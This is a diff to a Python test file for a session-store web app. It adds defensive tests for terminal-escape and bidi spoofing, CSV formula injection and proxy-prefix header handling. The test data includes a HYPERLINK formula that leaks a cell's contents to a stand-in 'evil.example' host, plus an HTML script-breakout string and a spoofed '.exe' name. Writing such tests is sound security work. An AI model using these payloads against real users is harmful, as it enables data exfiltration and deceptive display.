@@ -3,7 +3,9 @@
 from __future__ import annotations
 
 import base64
+import csv
 import hashlib
+import io
 import os
 import re
 import signal
@@ -17,7 +19,10 @@ from urllib.parse import urldefrag, urljoin
 import httpx
 import pytest
 
+from sessionstore.access import Asked, Gate
 from sessionstore.catalogue import questions, views
+from sessionstore.settings import read_settings
+from sessionstore.tokens import Tokens
 from tests.appliance import Appliance
 from tests.hostile import BOMBS, REFUSED
 from tests.peers import children_of, eventually
@@ -103,7 +108,85 @@ def test_a_story_is_told_in_the_order_in_which_it_happened(http: httpx.Client, s
     ]
 
 
+def csv_of(http: httpx.Client, path: str, **query: str) -> list[list[str]]:
+    answer = http.get(f"/datasette/{path}.csv", params=query).raise_for_status()
+    return list(csv.reader(io.StringIO(answer.text)))
+
+
+SPOOF = "\x1b[2J\x1b[31mrun\x1b[0m a\b\r \u202egnp.exe\u202c \x9b1m"
+SHOWN = "run a\u2408\u240d gnp.exe "
+
+
+def test_no_text_steers_the_screen_that_shows_it(http: httpx.Client, session_id: str) -> None:
+    http.post(f"/api/actions/{session_id}", json={"type": "prompt", "prompt": SPOOF})
+    assert csv_of(http, "sessions/story", session=session_id)[-1][4] == SHOWN
+    assert csv_of(http, "sessions", sql="SELECT text FROM actions WHERE session_id = :s", s=session_id)[1] == [SHOWN]
+    for page in (f"sessions/story?session={session_id}", f"sessions/actions?session_id={session_id}&_col=text"):
+        shown = http.get(f"/datasette/{page}").text
+        assert SHOWN in shown
+        assert "\u202e" not in shown
+    raw = http.get(f"/datasette/sessions/actions.json?session_id={session_id}&_shape=array").json()
+    assert raw[0]["text"] == SPOOF, "programs have it as it was said"
+
+
+FORMULAS = ("=1+1", "+1", "-1", "@SUM(1)", "\t=1", "\uff1d1", '=HYPERLINK("https://evil.example/?"&A1,"x")')
+
+
+def test_no_cell_of_a_csv_is_run_by_a_spreadsheet(http: httpx.Client, session_id: str) -> None:
+    for formula in FORMULAS:
+        http.post(f"/api/actions/{session_id}", json={"type": "prompt", "prompt": formula})
+    story = csv_of(http, "sessions/story", session=session_id)
+    assert [row[4] for row in story[-len(FORMULAS) :]] == [f"'{formula}" for formula in FORMULAS]
+    assert csv_of(http, "sessions", sql="SELECT -5 AS '=a', -0.5, 'a=b', '', ' =1'") == [
+        ["'=a", "'-0.5", "'a=b'", "''", "' =1'"],
+        ["-5", "-0.5", "a=b", "", " =1"],
+    ]
+
+
 # ------------------------------------------------------------------------ links
+
+
+PREFIX = {"X-Forwarded-Prefix": "/some/store"}
+
+
+def test_every_link_stays_below_the_path_of_a_proxy(http: httpx.Client, told: str) -> None:
+    for path in ("", "sessions", "sessions/tool_calls", f"sessions/story?session={told}", "sessions?sql=select+1"):
+        page = http.get(f"/datasette/{path}", headers=PREFIX).text
+        links = re.findall(r"""(?:href|src|action)=["'](/[^"']*)["']""", page)
+        assert links
+        assert not [link for link in links if not link.startswith("/some/store/")], path
+    assert (
+        http.get("/datasette", headers=PREFIX, follow_redirects=False).headers["location"] == "/some/store/datasette/"
+    )
+    (first, *_) = http.get("/api/query/questions", headers=PREFIX).json()["items"]
+    assert first["path"].startswith("/some/store/datasette/sessions/")
+    for _ in range(2):
+        http.post(f"/api/actions/{told}", json={"type": "note"})
+    link = http.get(f"/api/actions/{told}", params={"limit": 1}, headers=PREFIX).headers["link"]
+    assert link.startswith(f"</some/store/api/actions/{told}?")
+    assert http.get("/schema/openapi.json", headers=PREFIX).json()["servers"] == [{"url": "/some/store"}]
+    assert http.get("/schema/openapi.json").json()["servers"] == [{"url": "/"}]
+    assert '"/some/store/schema/assets/swagger-ui.css"' in http.get("/schema", headers=PREFIX).text
+
+
+@pytest.mark.parametrize(
+    "said",
+    ["//evil.example", "https://evil.example", "/a/../b", "/a b", '/"><script>', "/.", "/a\\b", "/" + "a" * 300, ""],
+)
+def test_a_prefix_that_is_no_path_is_not_heeded(http: httpx.Client, said: str) -> None:
+    page = http.get("/datasette/", headers={"X-Forwarded-Prefix": said})
+    assert 'href="/datasette/sessions"' in page.text
+    assert "evil" not in page.text
+
+
+def test_the_prefix_of_a_stranger_is_not_heeded(tmp_path: Path) -> None:
+    asked = Asked("GET", "/datasette/", [], {b"x-forwarded-prefix": b"/store"}, "192.0.2.7")
+    gates = []
+    for proxies in ({}, {"SESSIONS_TRUSTED_PROXIES": "192.0.2.0/24"}):
+        settings = read_settings({"SESSIONS_DIR": str(tmp_path), **proxies})
+        gates.append(Gate(None, settings, Tokens(settings)))  # type: ignore[arg-type]
+    assert [gate.prefix_of(asked) for gate in gates] == ["", "/store"]
+    assert [gate.prefix_of(asked._replace(address="::1")) for gate in gates] == ["/store", "/store"]
 
 
 def links_of(page: httpx.Response) -> Iterator[str]:
